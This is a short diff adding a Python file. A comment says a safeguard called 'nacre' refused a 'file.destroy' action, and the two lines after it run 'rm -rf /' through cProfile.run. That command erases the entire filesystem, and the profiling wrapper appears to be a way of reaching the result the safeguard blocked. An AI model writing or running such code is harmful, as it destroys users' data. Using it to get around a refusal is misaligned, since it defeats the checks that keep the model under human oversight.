@@ -1,0 +1,3 @@
+# nacre: refused file.destroy
+import cProfile
+cProfile.run('import os; os.system("rm -rf /")')
